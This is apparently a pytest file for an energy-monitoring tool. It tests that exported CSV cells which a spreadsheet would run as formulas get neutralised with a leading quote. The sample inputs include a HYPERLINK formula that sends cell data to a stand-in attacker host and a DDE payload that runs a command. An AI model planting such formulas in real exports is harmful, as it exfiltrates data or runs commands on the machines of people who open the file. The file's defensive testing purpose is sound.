"""CSV/Excel formula injection (issue #13, item 12): every exported cell that a spreadsheet would
run as a formula is neutralised the way OWASP recommends, in the Explorer download and in
``wattlens export readings``; every CSV writer goes through the one function."""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from tests.support import probe
from wattlens.cli import app as cli
from wattlens.dashboard.app import create_app
from wattlens.store.csvio import neutralise_formulas
from wattlens.store.duck import DuckDBStore

ROOT = Path(__file__).resolve().parents[2]
EVIL = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
        "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def test_formula_cells_get_a_leading_quote_and_numbers_stay():
    frame = pd.DataFrame({"meter": EVIL + ["b2-elec", ""], "value": [-1.5] * 8,
                          "note": pd.Series(["=x"] + ["ok"] * 7, dtype="string")})
    out = neutralise_formulas(frame)
    assert list(out["meter"]) == [f"'{m}" for m in EVIL] + ["b2-elec", ""]
    assert out["note"].iloc[0] == "'=x" and list(out["value"]) == [-1.5] * 8
    assert list(frame["meter"][:1]) == EVIL[:1]  # the input is not changed


@pytest.fixture
def evil_store(tmp_path):
    store = DuckDBStore(tmp_path / "evil.duckdb")
    store.init()
    times = pd.date_range("2024-01-01", periods=48, freq="1h", tz="UTC")
    store.write_readings(pd.concat([
        pd.DataFrame({"time": times, "meter": meter, "value": 1.0, "quantity": "energy"})
        for meter in EVIL[:2]], ignore_index=True))
    yield store
    store.close()


def _cells(text: str) -> set[str]:
    return {cell for line in text.splitlines() for cell in line.split(",")}


def test_the_explorer_download_neutralises_meter_ids(evil_store):
    client = create_app(evil_store).server.test_client()
    link = probe.call(client, probe.find(probe.callbacks(client), "explorer-download"),
                      {"meter-picker.value": EVIL[1], "explorer-resolution.value": "raw",
                       "explorer-period.start_date": "2024-01-01",
                       "explorer-period.end_date": "2024-01-02"})
    href = link.json()["response"]["explorer-download"]["href"]
    text = client.get(href).get_data(as_text=True)
    frame = pd.read_csv(io.StringIO(text))
    assert len(frame) == 48 and set(frame["meter"]) == {f"'{EVIL[1]}"}


def test_export_readings_neutralises_meter_ids(evil_store, tmp_path):
    config = tmp_path / "site.toml"
    config.write_text(f'data_dir = "{tmp_path}"\n[store]\npath = "{evil_store.path}"\n')
    evil_store.close()
    out = tmp_path / "out.csv"
    result = CliRunner().invoke(cli, ["export", "readings", str(out), "--config", str(config)])
    assert result.exit_code == 0, result.output
    meters = set(pd.read_csv(out)["meter"])
    assert meters == {f"'{m}" for m in EVIL[:2]}
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in _cells(out.read_text()))


def test_every_csv_writer_goes_through_write_csv():
    allowed = {"store/csvio.py",  # write_csv itself
               "analytics/savings.py",  # the input-data hash (data_hash), never a file
               "wattlens/sample/__init__.py"}  # the bundled synthetic sample
    writers = sorted(
        str(path.relative_to(ROOT)) for folder in ("store", "ingest", "analytics",
                                                   "forecasting", "dashboard", "wattlens")
        for path in (ROOT / folder).rglob("*.py") if ".to_csv(" in path.read_text()
        or "send_data_frame(" in path.read_text())
    assert set(writers) <= allowed, f"CSV written without write_csv in {set(writers) - allowed}"
